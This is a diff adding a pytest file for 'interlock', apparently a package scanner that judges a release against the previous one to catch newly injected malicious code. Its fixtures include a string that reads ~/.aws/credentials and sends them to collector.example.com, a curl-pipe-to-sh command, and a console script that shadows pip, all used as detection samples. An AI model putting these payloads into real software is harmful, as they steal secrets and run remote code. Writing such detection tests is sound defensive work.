@@ -1,0 +1,248 @@
+"""A release judged against the one before it: `interlock diff`, history-aware scans, the fact cache.
+
+Every release here is a real archive built by the test; nothing is installed or run.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from interlock.analysis import parallel
+from interlock.artifact.reader import read_artifact_bytes
+from interlock.cli import main
+from interlock.demo import build_demo_releases
+from interlock.demo.wheel import wheel_bytes, wheel_filename, write
+from interlock.diff.compare import DiffError, diff_artifacts
+from interlock.store.facts import FactCache
+
+HARMLESS = "def greet(name):\n    return f'hello {name}'\n"
+# Talks to the network at import in both releases: the package's long-standing behaviour.
+SPAWNS_AT_IMPORT = "import urllib.request\nLATEST = urllib.request.urlopen('https://example.com/latest').read()\n" + HARMLESS
+STEALER = (
+    "import os, urllib.request\n"
+    "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+    "urllib.request.urlopen('https://collector.example.com/u', data.encode())\n"
+)
+
+
+def release(tmp_path: Path, version: str, files: dict[str, str], name: str = "acme") -> Path:
+    return write(tmp_path, wheel_filename(name, version), wheel_bytes(name, version, files))
+
+
+def diff(old: Path, new: Path, facts: FactCache | None = None):  # noqa: ANN201 - a ScanResult
+    read = lambda path: read_artifact_bytes(path.name, path.read_bytes())  # noqa: E731
+    return diff_artifacts(read(old), read(new), target=str(new), previous_label=str(old), facts=facts)
+
+
+def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    status = main(list(argv))
+    captured = capsys.readouterr()
+    return status, captured.out, captured.err
+
+
+# -- what counts as new ------------------------------------------------------------------------
+
+
+def test_trojaned_release_is_malicious_and_the_new_pth_comes_first(tmp_path: Path) -> None:
+    genuine, trojaned = build_demo_releases(tmp_path)
+    result = diff(genuine, trojaned)
+    assert result.verdict.value == "malicious"
+    first = result.findings[0]
+    assert (first.path, first.new) == ("acme_greeter_init.pth", True)
+    assert result.previous is not None and result.previous.filename == genuine.name
+    assert result.changes is not None and "acme_greeter_init.pth" in result.changes.added
+
+
+def test_behaviour_both_releases_share_is_listed_but_not_counted(tmp_path: Path) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": SPAWNS_AT_IMPORT})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": SPAWNS_AT_IMPORT + "\nVERSION = '1.1'\n"})
+    result = diff(old, new)
+    assert result.verdict.value == "clean"
+    assert result.findings and all(finding.new is False for finding in result.findings)
+
+
+def test_code_injected_into_an_existing_file_is_new_with_its_added_lines(tmp_path: Path) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + STEALER})
+    result = diff(old, new)
+    assert result.verdict.value == "malicious"
+    first = result.findings[0]
+    assert (first.path, first.new) == ("acme/util.py", True)
+    assert first.line is not None and first.line > HARMLESS.count("\n")
+    assert any(line.startswith("+ ") and "credentials" in line for line in first.context)
+    assert any(line.startswith("  ") and "return" in line for line in first.context)  # unchanged context
+
+
+def test_code_that_moved_to_import_time_is_new(tmp_path: Path) -> None:
+    body = "import subprocess\n\ndef update():\n    subprocess.run(['sh', '-c', 'curl -s https://x.example.com/i | sh'])\n"
+    old = release(tmp_path, "1.0", {"acme/__init__.py": body})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": body + "\nupdate()\n"})
+    result = diff(old, new)
+    moved = [f for f in result.findings if f.new and f.when == "import"]
+    assert moved and moved[0].line == 4
+    assert result.verdict.value != "clean"
+
+
+def test_a_critical_finding_counts_even_when_the_previous_release_had_it(tmp_path: Path) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": STEALER})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": STEALER + "\nVERSION = '1.1'\n"})
+    result = diff(old, new)
+    assert result.verdict.value == "malicious"
+    assert not any(f.new for f in result.findings if f.severity.label == "critical")
+
+
+def test_a_console_script_named_pip_appearing_in_a_release_is_critical(tmp_path: Path) -> None:
+    old = write(tmp_path, wheel_filename("acme", "1.0"), wheel_bytes("acme", "1.0", {"acme/__init__.py": HARMLESS}))
+    hijack = "[console_scripts]\npip = acme._pip:main\n"
+    new = write(tmp_path, wheel_filename("acme", "1.1"), wheel_bytes("acme", "1.1", {"acme/__init__.py": HARMLESS}, entry_points=hijack))
+    result = diff(old, new)
+    assert result.verdict.value == "malicious"
+    assert result.findings[0].rule == "entrypoint-shadows-command" and "new in this release" in result.findings[0].message
+
+
+# -- releases that cannot be compared -----------------------------------------------------------
+
+
+def test_the_same_file_twice_is_refused(tmp_path: Path) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
+    with pytest.raises(DiffError, match="same file"):
+        diff(old, old)
+
+
+def test_unrelated_projects_are_refused(tmp_path: Path) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
+    other = release(tmp_path, "2.0", {"other/__init__.py": HARMLESS}, name="other")
+    with pytest.raises(DiffError, match="not releases of the same project"):
+        diff(old, other)
+
+
+def test_an_old_release_newer_than_the_new_one_is_refused(tmp_path: Path) -> None:
+    old = release(tmp_path, "2.0", {"acme/__init__.py": HARMLESS})
+    new = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS + "\n"})
+    with pytest.raises(DiffError, match="swap"):
+        diff(old, new)
+
+
+@pytest.mark.parametrize("case", ["same-file", "unrelated", "swapped"])
+def test_the_cli_explains_why_two_releases_cannot_be_compared(tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
+    new = {
+        "same-file": old,
+        "unrelated": release(tmp_path, "2.0", {"other/__init__.py": HARMLESS}, name="other"),
+        "swapped": release(tmp_path, "0.9", {"acme/__init__.py": HARMLESS + "\n"}),
+    }[case]
+    status, out, err = run(capsys, "diff", str(old), str(new))
+    assert status == 2 and out == ""
+    assert err.startswith("interlock: error: ") and err.count("\n") == 1 and "Traceback" not in err
+
+
+def test_the_cli_reports_a_missing_file_as_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
+    status, _, err = run(capsys, "diff", str(old), str(tmp_path / "missing-1.1-py3-none-any.whl"))
+    assert status == 2 and "no such file" in err
+
+
+# -- output --------------------------------------------------------------------------------------
+
+
+def test_json_output_has_previous_and_marks_each_finding(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    genuine, trojaned = build_demo_releases(tmp_path)
+    status, out, _ = run(capsys, "diff", "--format", "json", str(genuine), str(trojaned))
+    result = json.loads(out)["results"][0]
+    assert status == 1
+    assert result["verdict"] == "malicious" and result["previous"]["filename"] == genuine.name
+    assert all(isinstance(finding["new"], bool) for finding in result["findings"])
+    assert result["findings"][0]["new"] is True
+    assert "acme_greeter_init.pth" in result["changes"]["added"]
+
+
+def test_text_output_names_the_previous_release_and_shows_added_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + STEALER})
+    status, out, _ = run(capsys, "diff", str(old), str(new))
+    assert status == 1
+    assert "compared with" in out and old.name in out
+    assert "NEW credential-exfiltration" in out
+    assert "+ data = open(os.path.expanduser('~/.aws/credentials')).read()" in out
+    assert "files: 0 added, 0 removed, 3 changed, 2 unchanged" in out  # util.py, METADATA and RECORD
+
+
+# -- only what changed is analysed -------------------------------------------------------------
+
+
+def test_a_warm_fact_cache_analyses_only_the_files_that_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    files = {f"acme/mod{number}.py": HARMLESS + f"N = {number}\n" for number in range(20)}
+    old = release(tmp_path, "1.0", {"acme/__init__.py": "", **files})
+    new = release(tmp_path, "1.1", {"acme/__init__.py": "", **files, "acme/mod3.py": HARMLESS + STEALER})
+    analysed: list[str] = []
+    real = parallel._analyse
+
+    def counting(artifact, job):  # noqa: ANN001, ANN202 - same signature as the real one
+        analysed.append(job[0])
+        return real(artifact, job)
+
+    monkeypatch.setattr(parallel, "_analyse", counting)
+    facts = FactCache(tmp_path / "facts.sqlite3")
+    first = diff(old, new, facts)
+    assert len(analysed) == 2 * 21 - 20  # everything once; the 20 unchanged files only for OLD
+    analysed.clear()
+    second = diff(old, new, facts)
+    assert analysed == []
+    assert [(f.rule, f.path, f.line, f.new) for f in second.findings] == [(f.rule, f.path, f.line, f.new) for f in first.findings]
+
+
+# -- history: scan NAME==VERSION against the previous release on the index ------------------------
+
+
+@pytest.fixture
+def index_with_history(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
+    from tests.test_index_client import FakeIndex
+
+    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
+    index = FakeIndex()
+    index.thread.start()
+    genuine, trojaned = build_demo_releases(tmp_path / "served")
+    index.json_project("acme-greeter", {genuine.name: genuine.read_bytes(), trojaned.name: trojaned.read_bytes()})
+    yield index.simple
+    index.server.shutdown()
+    index.server.server_close()
+
+
+def test_scan_by_name_compares_with_the_previous_release(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
+    status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1")
+    result = json.loads(out)["results"][0]
+    assert status == 1 and result["verdict"] == "malicious"
+    assert result["previous"]["target"] == "acme-greeter==1.0.0"
+    assert result["findings"][0]["new"] is True
+
+
+def test_a_first_release_says_it_has_no_history(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
+    status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.0")
+    result = json.loads(out)["results"][0]
+    assert status == 0 and result["verdict"] == "clean"
+    assert "previous" not in result and "first release" in result["history"]
+
+
+def test_no_history_judges_the_release_alone(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
+    status, out, _ = run(capsys, "scan", "--no-history", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1")
+    result = json.loads(out)["results"][0]
+    assert status == 1 and "previous" not in result and "history" not in result
+    assert all("new" not in finding for finding in result["findings"])
+
+
+def test_a_local_file_with_the_index_down_is_judged_alone_and_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    import socket
+
+    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
+    with socket.socket() as probe:  # a port nothing listens on
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    _, trojaned = build_demo_releases(tmp_path)
+    status, out, err = run(capsys, "scan", "--index-url", f"http://127.0.0.1:{port}/simple", "--format", "json", str(trojaned))
+    result = json.loads(out)["results"][0]
+    assert status == 1 and result["verdict"] == "malicious"
+    assert result["history"].startswith("history unavailable") and "Traceback" not in err
